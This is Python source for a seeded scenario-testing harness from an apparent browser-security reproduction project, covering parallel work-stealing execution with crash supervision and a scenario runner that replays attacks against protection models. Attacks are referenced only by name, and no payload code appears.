        "duration_s": suite.duration_s,
        "verdicts": [
            {"index": index, "kind": verdict.kind, "verdict": verdict.as_dict()}
            for index, verdict in zip(config["indices"], suite.verdicts)
        ],
        "failures": suite.failure_specs,
        "mediations": suite.mediations,
        "denied": suite.denied,
        "cache_hits": suite.cache_hits,
        "cache_lookups": suite.cache_lookups,
        "pages_loaded": suite.pages_loaded,
        "tasks_run": suite.tasks_run,
    }


@dataclass
class ParallelSuiteResult(SuiteResult):
    """A merged sharded run: the serial result shape plus worker statistics."""

    workers: int = 1
    #: Per-shard execution statistics (scenario counts, throughput, cache).
    shard_stats: list[dict] = field(default_factory=list)
    #: Corpus files the run's failures were pinned into.
    corpus_paths: list[str] = field(default_factory=list)

    def as_dict(self) -> dict:
        data = super().as_dict()
        data["workers"] = self.workers
        data["shards"] = self.shard_stats
        if self.corpus_paths:
            data["corpus"] = list(self.corpus_paths)
        return data

    def summary(self) -> str:
        lines = [super().summary()]
        shard_line = " / ".join(
            f"{stat['scenarios_per_second']:,.1f}" for stat in self.shard_stats
        )
        lines.append(
            f"  {self.workers} worker(s) | per-shard scenarios/s: {shard_line or 'n/a'}"
        )
        for path in self.corpus_paths:
            lines.append(f"  pinned failing spec -> {path}")
        return "\n".join(lines)


def run_suite_parallel(
    *,
    seed: int | str = 42,
    count: int = 100,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
    workers: int = 2,
    corpus_dir=None,
    persist_failures: bool = True,
    compile_caches: bool = True,
    script_engine: str = "vm",
) -> ParallelSuiteResult:
    """Run ``count`` seeded scenarios sharded over ``workers`` processes.

    The merged result's :meth:`~repro.scenarios.engine.SuiteResult.parity_dict`
    is byte-identical to a serial :func:`~repro.scenarios.engine.run_suite`
    of the same seed range.  Failing specs are pinned into the regression
    corpus (``corpus_dir``, defaulting to ``tests/scenarios/corpus/``) unless
    ``persist_failures`` is off.  ``compile_caches=False`` runs every worker
    cold (the benchmark baseline).
    """
    workers = max(1, int(workers))
    model_names = tuple(spec.name for spec in resolve_models(models))
    # The parent-side generator is only a configuration snapshot: its apps
    # and attack-name tuple travel to the workers so every process generates
    # from the identical vocabulary, runtime registrations included.
    generator = ScenarioGenerator(seed=seed, attack_ratio=attack_ratio)
    shard_count = max(1, min(workers, count))
    configs = [
        {
            "shard": shard,
            "indices": indices,
            "seed": generator.seed,
            "apps": generator.apps,
            "attack_ratio": generator.attack_ratio,
            "attack_names": generator._attack_names,
            "models": model_names,
            "compile_caches": compile_caches,
            "script_engine": script_engine,
        }
        for shard, indices in enumerate(partition_indices(count, shard_count))
    ]

    start = time.perf_counter()
    if shard_count == 1:
        # One worker needs no pool: run the shard in-process, through the
        # exact same code path the pooled workers take.
        reports = [_run_shard(config) for config in configs]
    else:
        with ProcessPoolExecutor(max_workers=shard_count) as pool:
            reports = list(pool.map(_run_shard, configs))
    duration = time.perf_counter() - start

    result = ParallelSuiteResult(
        seed=generator.seed,
        count=count,
        models=model_names,
        attack_ratio=generator.attack_ratio,
        workers=workers,
    )
    result.duration_s = duration

    # Deterministic merge: shards in shard order for the stats, verdicts
    # re-interleaved into scenario-index order (the serial execution order).
    reports.sort(key=lambda report: report["shard"])
    merged = sorted(
        (entry for report in reports for entry in report["verdicts"]),
        key=lambda entry: entry["index"],
    )
    for entry in merged:
        data = entry["verdict"]
        result.verdicts.append(
            Verdict(
                scenario=data["scenario"],
                kind=data["kind"],
                ok=data["ok"],
                reason=data["reason"],
                replay=data.get("replay", ""),
            )
        )
    result.failure_specs = sorted(
        (failure for report in reports for failure in report["failures"]),
        key=lambda failure: failure["index"],
    )
    for report in reports:
        result.mediations += report["mediations"]
        result.denied += report["denied"]
        result.cache_hits += report["cache_hits"]
        result.cache_lookups += report["cache_lookups"]
        result.pages_loaded += report["pages_loaded"]
        result.tasks_run += report["tasks_run"]
        shard_duration = report["duration_s"]
        result.shard_stats.append(
            {
                "shard": report["shard"],
                "scenarios": report["scenarios"],
                "duration_s": shard_duration,
                "scenarios_per_second": (
                    report["scenarios"] / shard_duration if shard_duration > 0 else 0.0
                ),
                "cache_hit_rate": (
                    report["cache_hits"] / report["cache_lookups"]
                    if report["cache_lookups"]
                    else 0.0
                ),
                "mediations": report["mediations"],
                "denied": report["denied"],
            }
        )

    if persist_failures:
        for failure in result.failure_specs:
            path = save_failure(
                failure["spec"],
                models=model_names,
                reason=failure["reason"],
                replay=failure["replay"],
                directory=corpus_dir,
            )
            result.corpus_paths.append(str(path))
    return result
