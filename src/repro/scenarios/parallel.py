"""Work-stealing parallel scenario execution with warm-state shipping.

The serial engine (:func:`repro.scenarios.engine.run_suite`) executes one
scenario at a time in one process -- fine for a hundred scenarios, a ceiling
for the ROADMAP's fuzzing-at-scale ambitions.  This module distributes the
seeded index space over N worker processes and fixes the two defects the
first sharded executor shipped with:

* **N workers no longer pay N cold starts.**  The parent warms *one*
  compile-cache stack (parsed DOM templates, script ASTs / bytecode,
  policy-matrix mediation verdicts) via the ordinary
  :class:`~repro.scenarios.runner.ScenarioRunner` warm-up, serialises it
  with :func:`~repro.browser.compile_cache.dump_warm_state`, and ships the
  snapshot to every worker -- which then starts warm, whatever the start
  method.  ``warm_ship=False`` restores the cold-worker baseline (what the
  benchmark's cold-start-amortization section measures).
* **A slow shard no longer stalls the merge.**  Instead of owning a fixed
  strided slice, workers *pull* contiguous index chunks from a shared queue
  until it runs dry (work stealing): a worker that lands expensive attack
  scenarios simply takes fewer chunks while its siblings drain the rest.
  Which worker runs which chunk is timing-dependent, but the *result* is
  not: scenario ``i`` of seed ``s`` is the same scenario in every process
  (the generator keys an isolated ``random.Random`` on ``(seed, index)``),
  caches never change outcomes (templates are served as aliasing-free
  clones, decisions are value-keyed with generation invalidation), and the
  merge re-sorts verdicts into scenario-index order -- so
  :meth:`~repro.scenarios.engine.SuiteResult.parity_dict` of a parallel run
  equals the serial run's, byte for byte, on every run.

Worker processes are plain :class:`multiprocessing.Process` instances on an
explicitly pinned context (``fork`` where the platform offers it, else
``spawn`` -- never the platform default, which has changed across Python
releases).  Under ``fork`` workers inherit runtime application / attack
registrations; under ``spawn`` only import-time registrations exist, and an
unknown attack name fails loudly in the worker rather than silently
generating different scenarios (the parent snapshots its attack corpus into
the shard config).  Everything crossing the process boundary is picklable:
the config and warm-state bytes going out, plain-dict reports coming back.
Failing specs are pinned into the regression corpus
(:mod:`repro.scenarios.corpus`) from the parent process only (a single
writer, so no file races between workers).
"""

from __future__ import annotations

import multiprocessing
import os
import time
import traceback
from dataclasses import dataclass, field
from queue import Empty

from repro.faults.plan import FaultConfig, merge_fault_stats

from .corpus import save_failure
from .engine import SuiteResult, run_suite
from .generator import ScenarioGenerator
from .model import resolve_models
from .oracle import DifferentialOracle, Verdict
from .runner import ScenarioRunner

#: Upper bound on the auto-selected steal-chunk size.
MAX_AUTO_STEAL_CHUNK = 16

#: Seconds between supervision polls of the result queue.  Short, because
#: the parent must notice a dead worker quickly to requeue its chunk.
_SUPERVISE_POLL_S = 0.25

#: The exit code an injected worker crash dies with (distinguishable from
#: a Python traceback's exit 1 in the supervision log).
CRASH_EXIT_CODE = 3


def partition_indices(count: int, shards: int) -> list[list[int]]:
    """Strided partition of ``range(count)`` into ``shards`` balanced slices.

    Kept for callers that want a *static* assignment (striding spreads the
    expensive seeded attack scenarios evenly); the executor itself now uses
    :func:`steal_chunks` and lets workers balance dynamically.
    """
    if count < 0:
        raise ValueError("count must be non-negative")
    if shards < 1:
        raise ValueError("need at least one shard")
    return [list(range(shard, count, shards)) for shard in range(shards)]


def steal_chunks(count: int, chunk_size: int) -> list[list[int]]:
    """Contiguous chunks of ``range(count)``, the work-stealing queue's units.

    Contiguity is deliberate: balance comes from workers *pulling* chunks,
    not from interleaving, and contiguous indices keep each pull cheap to
    describe.  Every index appears in exactly one chunk, in order.
    """
    if count < 0:
        raise ValueError("count must be non-negative")
    if chunk_size < 1:
        raise ValueError("steal chunk size must be positive")
    return [list(range(lo, min(lo + chunk_size, count))) for lo in range(0, count, chunk_size)]


def default_steal_chunk(count: int, shards: int) -> int:
    """Auto chunk size: ~4 pulls per worker, capped so tails stay balanced."""
    if shards < 1:
        raise ValueError("need at least one shard")
    return max(1, min(MAX_AUTO_STEAL_CHUNK, -(-count // (shards * 4))))


def resolve_mp_context(name: str | None) -> str:
    """The pinned start method: an explicit ``name``, else fork-if-available.

    The *platform default* is deliberately never used -- it has changed
    across Python releases (``fork`` -> ``forkserver``/``spawn``), and the
    executor's registry semantics (runtime registrations survive only under
    ``fork``) must not silently flip with an interpreter upgrade.
    """
    if name:
        if name not in multiprocessing.get_all_start_methods():
            raise ValueError(
                f"start method {name!r} unavailable on this platform; "
                f"known: {multiprocessing.get_all_start_methods()}"
            )
        return name
    return "fork" if "fork" in multiprocessing.get_all_start_methods() else "spawn"


def _build_worker_runner(config: dict) -> ScenarioRunner:
    """One worker's runner: restored from the shipped warm state, or cold."""
    warm_state = config.get("warm_state")
    if warm_state is not None:
        return ScenarioRunner.from_warm_snapshot(
            warm_state,
            models=tuple(config["models"]),
            script_engine=config.get("script_engine", "vm"),
            storage=config.get("storage", "dict"),
            faults=config.get("faults"),
        )
    return ScenarioRunner(
        models=tuple(config["models"]),
        compile_caches=config.get("compile_caches", True),
        script_engine=config.get("script_engine", "vm"),
        storage=config.get("storage", "dict"),
        faults=config.get("faults"),
    )


def _build_worker_generator(config: dict) -> ScenarioGenerator:
    return ScenarioGenerator(
        seed=config["seed"],
        apps=tuple(config["apps"]),
        attack_ratio=config["attack_ratio"],
        _attack_names=tuple(config["attack_names"]),
    )


def _verdict_entries(shard: int, indices: list[int], suite: SuiteResult) -> list[dict]:
    """Pair a slice's verdicts with their global scenario indices.

    Fails loudly on a length mismatch: if a scenario raised mid-slice and
    something upstream swallowed it, a silent ``zip`` would truncate the
    verdict list and the merge would report a *smaller, passing* suite.
    The engine records the indices it actually executed
    (:attr:`~repro.scenarios.engine.SuiteResult.indices`), so the first
    unaccounted index is named in the error.
    """
    if len(suite.verdicts) != len(indices) or suite.indices != list(indices):
        executed = len(suite.verdicts)
        offending = indices[executed] if executed < len(indices) else indices[-1]
        raise RuntimeError(
            f"shard {shard}: {executed} verdict(s) for {len(indices)} requested "
            f"scenario indices; first unaccounted index is {offending}"
        )
    return [
        {"index": index, "kind": verdict.kind, "verdict": verdict.as_dict()}
        for index, verdict in zip(indices, suite.verdicts)
    ]


def _run_shard(config: dict) -> dict:
    """Execute one fixed slice in-process (the single-worker fast path).

    Builds a private generator / runner / oracle from the config snapshot and
    delegates to :func:`~repro.scenarios.engine.run_suite` over the shard's
    indices -- the serial engine's loop *is* the shard loop, so the two can
    never drift apart.
    """
    indices = list(config["indices"])
    runner = _build_worker_runner(config)
    suite = run_suite(
        generator=_build_worker_generator(config),
        runner=runner,
        oracle=DifferentialOracle(),
        indices=indices,
    )
    return {
        "shard": config["shard"],
        "scenarios": len(suite.verdicts),
        "duration_s": suite.duration_s,
        "chunks_stolen": 1 if indices else 0,
        "verdicts": _verdict_entries(config["shard"], indices, suite),
        "failures": suite.failure_specs,
        "mediations": suite.mediations,
        "denied": suite.denied,
        "cache_hits": suite.cache_hits,
        "cache_lookups": suite.cache_lookups,
        "pages_loaded": suite.pages_loaded,
        "tasks_run": suite.tasks_run,
        "faults": suite.faults,
        "crashed": False,
        "compile_cache": runner.caches.as_dict() if runner.caches is not None else None,
    }


def _steal_worker(worker_id: int, config: dict, task_queue, result_queue) -> None:
    """One pool worker: pull index chunks until the queue yields a sentinel.

    The generator / runner / oracle stack is built **once** and reused for
    every stolen chunk, so cache warmth (shipped or self-accumulated)
    spans the worker's whole lifetime.

    The per-chunk message protocol is what makes the executor *supervisable*:
    a ``claim`` message announces the chunk before any scenario runs, a
    ``chunk`` message carries its verdicts once done, and a ``done`` message
    closes the worker.  A worker that dies between ``claim`` and ``chunk``
    leaves the parent an exact record of which indices are lost -- the
    supervision loop requeues precisely those.  Any Python-level failure is
    reported back as an ``error`` entry instead of a silent empty report.

    ``config["crash_schedule"]`` maps a worker id to a 1-based chunk ordinal
    at which this worker fault-crashes (claim sent, chunk never reported) --
    the fault plane's ``executor.worker`` site.
    """
    try:
        start = time.perf_counter()
        crash_at = (config.get("crash_schedule") or {}).get(worker_id)
        generator = _build_worker_generator(config)
        runner = _build_worker_runner(config)
        oracle = DifferentialOracle()
        chunks_claimed = 0
        while True:
            chunk = task_queue.get()
            if chunk is None:
                break
            chunks_claimed += 1
            result_queue.put(
                {"type": "claim", "worker": worker_id, "indices": list(chunk)}
            )
            if crash_at is not None and chunks_claimed == crash_at:
                # Injected mid-chunk crash.  Flush the queue feeder first so
                # the claim above is guaranteed to reach the parent -- the
                # supervision contract is "claimed but unreported", not
                # "silently vanished".
                result_queue.close()
                result_queue.join_thread()
                os._exit(CRASH_EXIT_CODE)
            suite = run_suite(
                generator=generator, runner=runner, oracle=oracle, indices=chunk
            )
            result_queue.put(
                {
                    "type": "chunk",
                    "worker": worker_id,
                    "indices": list(chunk),
                    "verdicts": _verdict_entries(worker_id, chunk, suite),
                    "failures": suite.failure_specs,
                    "mediations": suite.mediations,
                    "denied": suite.denied,
                    "cache_hits": suite.cache_hits,
                    "cache_lookups": suite.cache_lookups,
                    "pages_loaded": suite.pages_loaded,
                    "tasks_run": suite.tasks_run,
                    "faults": suite.faults,
                }
            )
        result_queue.put(
            {
                "type": "done",
                "worker": worker_id,
                "duration_s": time.perf_counter() - start,
                "compile_cache": (
                    runner.caches.as_dict() if runner.caches is not None else None
                ),
            }
        )
    except BaseException as exc:  # pragma: no cover - exercised via fault injection
        result_queue.put(
            {
                "type": "error",
                "worker": worker_id,
                "error": f"{type(exc).__name__}: {exc}",
                "traceback": traceback.format_exc(),
            }
        )


@dataclass
class ParallelSuiteResult(SuiteResult):
    """A merged sharded run: the serial result shape plus worker statistics."""

    #: The *effective* worker count: ``run_suite_parallel`` clamps the
    #: request to ``min(workers, count)``, and this records what actually
    #: ran (``shard_stats`` has exactly this many entries).
    workers: int = 1
    #: What the caller asked for, before clamping.
    requested_workers: int = 1
    #: Whether workers started from the parent's shipped warm state.
    warm_ship: bool = False
    #: Steal-queue chunk size (0 for the single-worker in-process path).
    steal_chunk: int = 0
    #: The pinned multiprocessing start method ("" for in-process runs).
    mp_start_method: str = ""
    #: Per-shard execution statistics (scenario counts, throughput, cache).
    shard_stats: list[dict] = field(default_factory=list)
    #: Corpus files the run's failures were pinned into.
    corpus_paths: list[str] = field(default_factory=list)
    #: Replacement workers started after crashes (0 without fault injection).
    respawns: int = 0
    #: Worker ids that died mid-run; their claimed chunks were requeued.
    crashed_workers: list[int] = field(default_factory=list)

    def as_dict(self) -> dict:
        data = super().as_dict()
        data["workers"] = self.workers
        data["requested_workers"] = self.requested_workers
        data["warm_ship"] = self.warm_ship
        data["steal_chunk"] = self.steal_chunk
        data["mp_start_method"] = self.mp_start_method
        data["respawns"] = self.respawns
        data["crashed_workers"] = list(self.crashed_workers)
        data["shards"] = self.shard_stats
        if self.corpus_paths:
            data["corpus"] = list(self.corpus_paths)
        return data

    def summary(self) -> str:
        lines = [super().summary()]
        shard_line = " / ".join(
            f"{stat['scenarios_per_second']:,.1f}" for stat in self.shard_stats
        )
        steal_line = " / ".join(
            str(stat.get("chunks_stolen", 0)) for stat in self.shard_stats
        )
        lines.append(
            f"  {self.workers} worker(s) | per-shard scenarios/s: {shard_line or 'n/a'}"
            + (f" | chunks stolen: {steal_line}" if self.workers > 1 else "")
        )
        if self.crashed_workers:
            lines.append(
                f"  recovered from {len(self.crashed_workers)} worker crash(es) "
                f"(workers {self.crashed_workers}, {self.respawns} respawn(s))"
            )
        for path in self.corpus_paths:
            lines.append(f"  pinned failing spec -> {path}")
        return "\n".join(lines)


def _empty_worker_report(worker_id: int) -> dict:
    return {
        "shard": worker_id,
        "scenarios": 0,
        "chunks_stolen": 0,
        "verdicts": [],
        "failures": [],
        "mediations": 0,
        "denied": 0,
        "cache_hits": 0,
        "cache_lookups": 0,
        "pages_loaded": 0,
        "tasks_run": 0,
        "faults": {},
        "duration_s": 0.0,
        "compile_cache": None,
        "crashed": False,
    }


def _supervise_pool(
    ctx, config: dict, task_queue, result_queue, active: dict, count: int
) -> tuple[list[dict], int, list[int]]:
    """Drive the worker pool to completion, recovering from worker crashes.

    The supervision contract, built on the worker's claim/chunk/done
    protocol:

    * every scenario index is reported **exactly once** -- a duplicate chunk
      report raises instead of silently double-counting a verdict;
    * a worker that dies between ``claim`` and ``chunk`` has exactly its
      unreported claimed indices requeued, and a replacement worker is
      spawned under a fresh id (outside any crash schedule, so an injected
      cascade is bounded by construction) up to one respawn per original
      worker;
    * shutdown sentinels are enqueued only once *all* ``count`` indices have
      been reported, so a requeued chunk can never race a sentinel into a
      worker and starve.

    Returns ``(per-worker reports, respawns, crashed worker ids)``.
    """
    max_respawns = len(active)
    reports: dict[int, dict] = {wid: _empty_worker_report(wid) for wid in active}
    claimed: dict[int, list[int]] = {}
    reported: set[int] = set()
    crashed: list[int] = []
    respawns = 0
    next_worker_id = max(active) + 1
    sentinels_sent = False

    def handle(message: dict) -> None:
        kind = message.get("type")
        worker = message.get("worker")
        if kind == "error":
            raise RuntimeError(
                f"shard {worker} failed: {message['error']}\n"
                + message.get("traceback", "")
            )
        if kind == "claim":
            claimed[worker] = list(message["indices"])
            return
        if kind == "chunk":
            for index in message["indices"]:
                if index in reported:
                    raise RuntimeError(
                        f"exactly-once violation: scenario index {index} "
                        f"reported twice (second report from worker {worker})"
                    )
                reported.add(index)
            claimed.pop(worker, None)
            report = reports[worker]
            report["chunks_stolen"] += 1
            report["scenarios"] += len(message["indices"])
            report["verdicts"].extend(message["verdicts"])
            report["failures"].extend(message["failures"])
            for counter in (
                "mediations",
                "denied",
                "cache_hits",
                "cache_lookups",
                "pages_loaded",
                "tasks_run",
            ):
                report[counter] += message[counter]
            if message.get("faults"):
                merge_fault_stats(report["faults"], message["faults"])
            return
        if kind == "done":
            report = reports[worker]
            report["duration_s"] = message["duration_s"]
            report["compile_cache"] = message.get("compile_cache")
            process = active.pop(worker, None)
            if process is not None:
                process.join()
            return
        raise RuntimeError(f"unknown worker message: {message!r}")

    def reap_dead() -> None:
        nonlocal respawns, next_worker_id
        dead = [wid for wid, proc in active.items() if proc.exitcode is not None]
        if not dead:
            return
        # A dying worker flushes its queue feeder before exiting (the
        # injected-crash path does so explicitly), so consume everything
        # already in flight before deciding what it failed to report.
        try:
            while True:
                handle(result_queue.get_nowait())
        except Empty:
            pass
        for wid in dead:
            process = active.pop(wid, None)
            if process is None:
                continue  # its 'done' arrived in the drain above
            process.join()
            reports[wid]["crashed"] = True
            crashed.append(wid)
            lost = claimed.pop(wid, None)
            if lost is not None:
                missing = [index for index in lost if index not in reported]
                if missing:
                    task_queue.put(missing)
            if len(reported) >= count:
                continue  # all work already accounted for; no replacement
            if respawns < max_respawns:
                respawns += 1
                replacement_id = next_worker_id
                next_worker_id += 1
                reports[replacement_id] = _empty_worker_report(replacement_id)
                replacement = ctx.Process(
                    target=_steal_worker,
                    args=(replacement_id, config, task_queue, result_queue),
                    daemon=True,
                )
                replacement.start()
                active[replacement_id] = replacement
        if len(reported) < count and not active:
            raise RuntimeError(
                f"all parallel workers died with {count - len(reported)} "
                f"scenario(s) unreported and the respawn budget "
                f"({max_respawns}) exhausted; crashed workers: {crashed}"
            )

    while True:
        if not sentinels_sent and len(reported) == count:
            for _ in range(len(active)):
                task_queue.put(None)  # one shutdown sentinel per live worker
            sentinels_sent = True
        if not active:
            break
        try:
            message = result_queue.get(timeout=_SUPERVISE_POLL_S)
        except Empty:
            reap_dead()
            continue
        handle(message)

    return (
        sorted(reports.values(), key=lambda report: report["shard"]),
        respawns,
        crashed,
    )


def run_suite_parallel(
    *,
    seed: int | str = 42,
    count: int = 100,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
    workers: int = 2,
    corpus_dir=None,
    persist_failures: bool = True,
    compile_caches: bool = True,
    script_engine: str = "vm",
    storage: str = "dict",
    steal_chunk: int | None = None,
    warm_ship: bool = True,
    mp_context: str | None = None,
    faults=None,
    crash_schedule: dict | None = None,
) -> ParallelSuiteResult:
    """Run ``count`` seeded scenarios over a work-stealing worker pool.

    The merged result's :meth:`~repro.scenarios.engine.SuiteResult.parity_dict`
    is byte-identical to a serial :func:`~repro.scenarios.engine.run_suite`
    of the same seed range -- with stealing and warm shipping on, off, or
    mixed.  Failing specs are pinned into the regression corpus
    (``corpus_dir``, defaulting to ``tests/scenarios/corpus/``) unless
    ``persist_failures`` is off.

    ``steal_chunk`` sets how many consecutive scenario indices one queue
    pull hands a worker (default: auto, ~4 pulls per worker).
    ``warm_ship=False`` makes every worker warm its own caches from scratch
    (the PR-5 behaviour, kept as the benchmark's cold-start baseline);
    ``compile_caches=False`` disables the cache stack entirely.
    ``mp_context`` pins the multiprocessing start method (default: ``fork``
    where available, else ``spawn``; see :func:`resolve_mp_context`).

    ``faults`` (a :class:`~repro.faults.plan.FaultConfig` or its dict form)
    arms the fault-injection plane inside every worker; its ``worker`` rate
    derives a deterministic crash schedule unless ``crash_schedule`` pins
    one explicitly (``{worker_id: 1-based chunk ordinal}``).  Crashed
    workers are supervised: their claimed chunk is requeued and a
    replacement is spawned, and the merged parity is still byte-identical
    to the serial run.  Crash schedules need the pooled path -- with one
    worker the run is in-process and the schedule is ignored.
    """
    requested = max(1, int(workers))
    if isinstance(faults, dict):
        faults = FaultConfig.from_dict(faults)
    model_names = tuple(spec.name for spec in resolve_models(models))
    # The parent-side generator is only a configuration snapshot: its apps
    # and attack-name tuple travel to the workers so every process generates
    # from the identical vocabulary, runtime registrations included.
    generator = ScenarioGenerator(seed=seed, attack_ratio=attack_ratio)
    shard_count = max(1, min(requested, count))
    if crash_schedule is None and faults is not None:
        crash_schedule = faults.crash_schedule(shard_count)
    config = {
        "seed": generator.seed,
        "apps": generator.apps,
        "attack_ratio": generator.attack_ratio,
        "attack_names": generator._attack_names,
        "models": model_names,
        "compile_caches": compile_caches,
        "script_engine": script_engine,
        "storage": storage,
        "faults": faults.to_dict() if faults is not None else None,
        "crash_schedule": dict(crash_schedule) if crash_schedule else None,
    }

    start = time.perf_counter()
    respawns = 0
    crashed_workers: list[int] = []
    if shard_count == 1:
        # One worker needs no pool (and nothing shipped): run the whole range
        # in-process, through the exact same runner-construction code path
        # the pooled workers take.
        chunk_size = 0
        shipped = False
        start_method = ""
        reports = [_run_shard(dict(config, shard=0, indices=list(range(count))))]
    else:
        chunk_size = int(steal_chunk) if steal_chunk else default_steal_chunk(count, shard_count)
        if chunk_size < 1:
            raise ValueError("steal_chunk must be positive")
        shipped = bool(compile_caches and warm_ship)
        if shipped:
            # Pay the warm-up exactly once, in the parent: index pages of
            # every generated app, across the whole policy matrix.
            warm_runner = ScenarioRunner(
                models=model_names,
                compile_caches=True,
                script_engine=script_engine,
                storage=storage,
            )
            warm_runner.warm_for(generator.apps)
            config["warm_state"] = warm_runner.warm_snapshot()
        start_method = resolve_mp_context(mp_context)
        ctx = multiprocessing.get_context(start_method)
        task_queue = ctx.Queue()
        result_queue = ctx.Queue()
        for chunk in steal_chunks(count, chunk_size):
            task_queue.put(chunk)
        # NB: no shutdown sentinels yet -- the supervision loop enqueues them
        # only after every scenario index has been reported, so a chunk
        # requeued after a worker crash can never lose the race to one.
        active = {
            worker_id: ctx.Process(
                target=_steal_worker,
                args=(worker_id, config, task_queue, result_queue),
                daemon=True,
            )
            for worker_id in range(shard_count)
        }
        for process in active.values():
            process.start()
        try:
            reports, respawns, crashed_workers = _supervise_pool(
                ctx, config, task_queue, result_queue, active, count
            )
        finally:
            # Normal path: every worker has already exited.  Error path: reap
            # whatever is still draining the task queue.
            for process in active.values():
                if process.is_alive():
                    process.terminate()
                process.join()
    duration = time.perf_counter() - start

    result = ParallelSuiteResult(
        seed=generator.seed,
        count=count,
        models=model_names,
        attack_ratio=generator.attack_ratio,
        workers=shard_count,
        requested_workers=requested,
        warm_ship=shipped,
        steal_chunk=chunk_size,
        mp_start_method=start_method,
        respawns=respawns,
        crashed_workers=crashed_workers,
    )
    result.duration_s = duration

    # Deterministic merge: shards in shard order for the stats, verdicts
    # re-interleaved into scenario-index order (the serial execution order)
    # -- stealing makes the chunk->worker assignment timing-dependent, but
    # the sorted union is the same on every run.
    reports.sort(key=lambda report: report["shard"])
    merged = sorted(
        (entry for report in reports for entry in report["verdicts"]),
        key=lambda entry: entry["index"],
    )
    if [entry["index"] for entry in merged] != list(range(count)):
        raise RuntimeError(
            f"merge integrity violation: expected scenario indices 0..{count - 1}, "
            f"got {len(merged)} verdict(s)"
        )
    for entry in merged:
        data = entry["verdict"]
        result.verdicts.append(
            Verdict(
                scenario=data["scenario"],
                kind=data["kind"],
                ok=data["ok"],
                reason=data["reason"],
                replay=data.get("replay", ""),
            )
        )
    result.indices = [entry["index"] for entry in merged]
    result.failure_specs = sorted(
        (failure for report in reports for failure in report["failures"]),
        key=lambda failure: failure["index"],
    )
    for report in reports:
        result.mediations += report["mediations"]
        result.denied += report["denied"]
        result.cache_hits += report["cache_hits"]
        result.cache_lookups += report["cache_lookups"]
        result.pages_loaded += report["pages_loaded"]
        result.tasks_run += report["tasks_run"]
        if report.get("faults"):
            merge_fault_stats(result.faults, report["faults"])
        shard_duration = report["duration_s"]
        result.shard_stats.append(
            {
                "shard": report["shard"],
                "scenarios": report["scenarios"],
                "chunks_stolen": report["chunks_stolen"],
                "duration_s": shard_duration,
                "scenarios_per_second": (
                    report["scenarios"] / shard_duration if shard_duration > 0 else 0.0
                ),
                "cache_hit_rate": (
                    report["cache_hits"] / report["cache_lookups"]
                    if report["cache_lookups"]
                    else 0.0
                ),
                "mediations": report["mediations"],
                "denied": report["denied"],
                "crashed": report.get("crashed", False),
                "compile_cache": report.get("compile_cache"),
            }
        )

    if persist_failures:
        for failure in result.failure_specs:
            path = save_failure(
                failure["spec"],
                models=model_names,
                reason=failure["reason"],
                replay=failure["replay"],
                faults=failure.get("faults"),
                directory=corpus_dir,
            )
            result.corpus_paths.append(str(path))
    return result
