"""Scenario execution under one protection model (or a whole matrix).

:class:`ScenarioRunner` replays one :class:`~repro.scenarios.model.Scenario`
spec against each column of the policy matrix.  Per column it stands up a
fresh :class:`~repro.attacks.harness.AttackEnvironment` (application +
attacker site + in-process network), gives every actor their own browser
profile, and drives the steps; attack steps delegate to the referenced
attack's plant / victim-action callables, so the same corpus the Section 6.4
experiments use is injected into the middle of a live multi-user session.

Each run collects everything the differential oracle needs:

* the application's deterministic state snapshot and digest (the
  transparency check);
* the attack outcome, when one was injected;
* the *attributable denials*: every mediation denial recorded by the
  victim's browser from the moment the attack was planted, each carrying the
  policy rule that produced it (so a blocked attack can be traced to a
  specific decision in the audit log);
* aggregate mediation statistics (total mediations, denials, decision-cache
  hits) for the throughput benchmark.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass, field

from repro.attacks.harness import Attack, AttackEnvironment, AttackResult, build_environment, login_user
from repro.browser.browser import Browser, LoadedPage
from repro.browser.compile_cache import CompileCaches, dump_warm_state, load_warm_state
from repro.faults.plan import FaultConfig, FaultPlan

from .generator import attack_by_name
from .model import TAB_ACTIONS, ModelSpec, Scenario, Step, resolve_models


@dataclass(frozen=True)
class DenialRecord:
    """One mediation denial, attributable to a policy rule in the audit log."""

    rule: str
    operation: str
    principal: str
    object: str
    page: str

    def as_dict(self) -> dict[str, str]:
        return {
            "rule": self.rule,
            "operation": self.operation,
            "principal": self.principal,
            "object": self.object,
            "page": self.page,
        }


@dataclass
class ScenarioRun:
    """Everything observed while executing one scenario under one model."""

    scenario: str
    model: str
    digest: str
    snapshot: dict
    mediations: int = 0
    denied: int = 0
    cache_hits: int = 0
    cache_lookups: int = 0
    pages_loaded: int = 0
    #: Event-loop macrotasks executed across every page of the run (timers,
    #: queued XHR completions, event dispatches) -- part of the parity
    #: report, so shards must reproduce the task schedule exactly.
    tasks_run: int = 0
    attack_result: AttackResult | None = None
    #: Denials recorded by the victim's browser since the attack was planted.
    attack_denials: list[DenialRecord] = field(default_factory=list)
    #: Fault-plane accounting for this run (``{}`` when no fault fired).
    #: Reporting only -- deliberately outside every parity comparison.
    faults: dict = field(default_factory=dict)

    @property
    def cache_hit_rate(self) -> float:
        """Decision-cache hit rate aggregated over every page of the run."""
        return self.cache_hits / self.cache_lookups if self.cache_lookups else 0.0


class ScenarioRunner:
    """Executes scenarios under a policy matrix.

    One runner is one *worker*: by default it carries a
    :class:`~repro.browser.compile_cache.CompileCaches` stack -- the HTML
    template cache, the script AST cache and a shared decision cache -- for
    its whole lifetime, so compilation and cold-start mediation work is paid
    once and amortised across every scenario the worker executes.  Verdicts
    are unaffected: templates and ASTs are served as aliasing-free clones /
    read-only trees, and the decision cache is value-keyed with generation
    invalidation on policy swaps and relabels.  ``compile_caches=False``
    restores the cold per-scenario pipeline (the benchmark baseline).

    With the stack enabled, applications are built with a markup-
    randomisation seed derived from a **per-runner random secret** plus
    ``(app_key, model)``: repeated responses of unchanged pages are
    byte-identical *within this worker* (template-cache hits survive
    scenario boundaries), while the nonces remain unpredictable to page
    content -- an attack payload cannot compute them, so the node-splitting
    defence is exercised exactly as before.  Nonce values never enter
    verdicts, digests or the parity report, so the per-worker secret cannot
    break serial-vs-parallel parity.
    """

    def __init__(
        self,
        models=("escudo", "sop", "none"),
        *,
        compile_caches: "bool | CompileCaches" = True,
        script_engine: str = "vm",
        storage: str = "dict",
        static_screen: bool = False,
        faults: "FaultConfig | dict | None" = None,
    ) -> None:
        self.specs = resolve_models(models)
        if script_engine not in ("vm", "walker"):
            raise ValueError(f"unknown script engine {script_engine!r}")
        if storage not in ("dict", "sqlite") and not storage.startswith("sqlite:"):
